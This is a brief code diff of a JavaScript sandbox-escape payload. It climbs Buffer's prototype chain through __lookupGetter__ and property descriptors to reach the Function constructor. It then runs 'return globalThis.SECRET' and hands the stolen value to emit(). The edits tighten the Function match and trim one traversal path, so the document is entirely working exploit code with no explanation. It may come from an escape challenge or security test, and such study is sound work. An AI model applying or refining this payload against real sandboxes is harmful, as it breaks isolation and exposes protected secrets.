@@ -2,7 +2,7 @@ const got = Buffer.apply.apply({}.__lookupGetter__, [Buffer, ['__proto__']]);
 const up = typeof got === 'function' ? got : () => null;
 const dig = (value, depth) => {
   if (value === null || depth > 3) return;
-  if (typeof value === 'function') {
+  if (typeof value === 'function' && value.name === 'Function') {
     const secret = value('return globalThis.SECRET')();
     if (secret) emit(secret);
   } else if (typeof value === 'object') {
@@ -17,7 +17,7 @@ const target = up.call(Buffer.from) || Buffer.from;
 for (const name of ['getOwnPropertyDescriptor', 'getOwnPropertyDescriptors']) {
   if (typeof kind[name] === 'function') {
     const part = kind[name](target, 'constructor');
-    for (const own of [part, kind.entries(part), kind.assign([], part)]) dig(own, 0);
+    if (part) for (const own of [part, kind.entries(part)]) dig(own, 0);
   }
 }
 past_step();
